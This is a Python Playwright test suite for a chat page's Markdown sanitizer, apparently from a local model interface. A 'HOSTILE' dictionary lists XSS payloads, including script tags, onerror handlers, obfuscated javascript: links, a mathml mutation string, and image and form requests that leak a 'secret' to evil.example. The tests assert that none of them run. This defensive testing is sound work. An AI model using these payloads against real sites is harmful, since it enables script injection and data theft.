"""What a model writes, rendered: right where it is Markdown, harmless whatever it is."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from page_fixtures import OpenPage, Watch
from playwright.sync_api import Page

# Renders `text` into the transcript, at once and character by character, and returns both results.
RENDER = """async ([base, text, steps]) => {
  const {MarkdownStream, loadMarkdown} = await import(`${base}js/page/markdown.mjs`);
  if (!(await loadMarkdown())) throw new Error("no Markdown");
  const transcript = document.getElementById("transcript");
  const make = () => transcript.appendChild(document.createElement("li"))
    .appendChild(Object.assign(document.createElement("div"), {className: "answer"}));
  const whole = make();
  new MarkdownStream(whole).finish(text);
  const grown = make();
  const stream = new MarkdownStream(grown);
  const step = Math.max(1, Math.ceil(text.length / steps));
  for (let end = step; end < text.length; end += step) stream.set(text.slice(0, end));
  stream.finish(text);
  await new Promise((resolve) => setTimeout(resolve, 150));
  const describe = (root) => ({
    html: root.innerHTML,
    text: root.innerText,
    tags: [...new Set([...root.querySelectorAll("*")].map((node) => node.localName))].sort(),
    attributes: [...new Set([...root.querySelectorAll("*")].flatMap((node) => node.getAttributeNames()))].sort(),
    links: [...root.querySelectorAll("a")].map(
      (a) => ({href: a.href, rel: a.rel, target: a.target, text: a.innerText})),
  });
  return {whole: describe(whole), grown: describe(grown)};
}"""

# Tags and attributes that the page itself adds around what the sanitizer lets through.
OWN = {"div", "span", "button", "svg", "path"}
PLAIN = {
    "a", "b", "blockquote", "br", "code", "dd", "del", "details", "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "i", "kbd", "li", "mark", "ol", "p", "pre", "s", "strong", "sub", "summary", "sup", "table", "tbody", "td",
    "th", "thead", "tr", "u", "ul",
}  # fmt: skip
ATTRIBUTES = {
    "align", "aria-hidden", "aria-label", "class", "d", "href", "rel", "role", "start", "tabindex", "target", "title",
    "type", "viewBox",
}  # fmt: skip

HOSTILE = {
    "script": "<script>self.hacked = 1</script>",
    "image error": '<img src="x" onerror="self.hacked = 1">',
    "remote image": "![pixel](https://evil.example/?q=secret)",
    "image by reference": "![pixel][1]\n\n[1]: https://evil.example/?q=secret",
    "image of this server": "![pixel](/models/manifest.json)",
    "javascript link": "[click](javascript:self.hacked=1) [click](JaVaScRiPt&colon;self.hacked=1)",
    "javascript link with controls": "[click](<java\tscript:self.hacked=1>) [click](\x01javascript:self.hacked=1)",
    "data link": "[click](data:text/html,<script>self.hacked=1</script>)",
    "svg": "<svg onload='self.hacked = 1'><a href='javascript:self.hacked=1'>x</a></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=self.hacked=1>'></math>",
    "iframe": '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name="q"><button>go</button></form>',
    "style": "<style>body { background: url(https://evil.example/) }</style><p style='position:fixed'>x</p>",
    "base and meta": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "event attributes": "<details open ontoggle='self.hacked = 1'><summary>x</summary></details>",
    "nested fences": "````\n```html\n<script>self.hacked = 1</script>\n```\n````",
    "clobbering": "<a id='transcript' name='composer'>x</a><form id='prompt'></form>",
    "class of the page": '<p class="notice problem">Your session ended</p>\n\n```js onclick=1\nx\n```',
    "link title": "[x](https://example.org '\"><img src=x onerror=self.hacked=1>')",
}


@pytest.fixture
def render(open_page: OpenPage) -> Callable[[str], dict[str, Any]]:
    page = open_page(boot=False)
    base = page.evaluate("() => JSON.parse(document.getElementById('sippet-config').textContent).assetBase")

    def run(text: str, steps: int = 200) -> dict[str, Any]:
        return dict(page.evaluate(RENDER, [base, text, steps]))

    return run


def test_hostile_answers_do_nothing(render: Callable[[str], dict[str, Any]], watches: dict[Page, Watch]) -> None:
    page, watch = next(iter(watches.items()))
    render("warm up")
    requests = len(watch.requests)
    for name, text in HOSTILE.items():
        for result in render(text).values():
            assert set(result["tags"]) <= PLAIN | OWN, name
            assert set(result["attributes"]) <= ATTRIBUTES, name
            for link in result["links"]:
                assert link["href"].startswith(("https://", "http://", "mailto:")), name
                assert (link["rel"], link["target"]) == ("noopener noreferrer", "_blank"), name
    assert page.evaluate("() => self.hacked") is None
    assert [request.url for request in watch.requests[requests:]] == []


def test_an_injected_script_would_have_been_noticed(open_page: OpenPage, watches: dict[Page, Watch]) -> None:
    page = open_page(boot=False)
    blocked = page.evaluate("""async () => {
      const script = document.createElement("script");
      let refused = "";
      try { script.text = "self.hacked = 1"; } catch (error) { refused = error.name; }
      document.body.append(script);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return {refused, hacked: self.hacked, violations: self.violations.splice(0)};
    }""")
    assert blocked["refused"] == "TypeError"
    assert blocked["violations"]
    assert blocked["hacked"] is None


def test_links_show_where_they_lead(render: Callable[[str], dict[str, Any]]) -> None:
    [guide, bare, trick] = render(
        "[guide](https://example.org/a) <https://example.com/b> [https://bank.example](https://evil.example/login)"
    )["whole"]["links"]
    assert guide["text"] == "guide (example.org)"
    assert bare["text"] == "https://example.com/b"
    assert trick["text"] == "https://bank.example (evil.example)"


def test_markdown_becomes_elements(render: Callable[[str], dict[str, Any]]) -> None:
    expected = {
        "**bold** and *soft*": "<p><strong>bold</strong> and <em>soft</em></p>",
        "line<br>break and H<sub>2</sub>O": "<p>line<br>break and H<sub>2</sub>O</p>",
        "use <div> here": "<p>use &lt;div&gt; here</p>",
        "- [x] done\n- [ ] open": "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>",
        "[up](/settings)": "<p>up</p>",
    }
    assert {text: render(text)["whole"]["html"].strip() for text in expected} == expected


def test_text_that_grows_ends_up_as_the_whole_text_does(render: Callable[[str], dict[str, Any]]) -> None:
    result = render(
        "# Title\n\nA [link][1] and text\nthat goes on\n\n1. one\n2. two\n   - inner\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
        "```python\nprint('hi')\n\n# still code\n```\n\n> quote\n> more\n\nlast\n\n[1]: https://example.org/\n"
    )
    assert result["grown"]["html"] == result["whole"]["html"]
    assert "https://example.org/" in [link["href"] for link in result["whole"]["links"]]


def test_control_and_reordering_characters_are_not_shown(render: Callable[[str], dict[str, Any]]) -> None:
    text = render("a\u202eb\u2066c\x1b[31md\x07e")["whole"]["text"]
    assert text.strip() == "abc[31mde"


def test_absurd_text_is_shown_all_the_same(render: Callable[[str], dict[str, Any]]) -> None:
    absurd = {
        "one line": "x" * 1_000_000,
        "brackets": "[" * 9_000,
        "emphasis": "*a **b " * 1_400,
        "quotes": "> " * 20_000,
        "tags": "<b>" * 30_000,
        "ticks": "`" * 9_000 + "x",
        "lists": "- " * 4_000 + "x",
        "paragraphs": "one **two** three\n\n" * 5_000,
    }
    for name, text in absurd.items():
        assert render(text, 3)["whole"]["text"].strip(), name
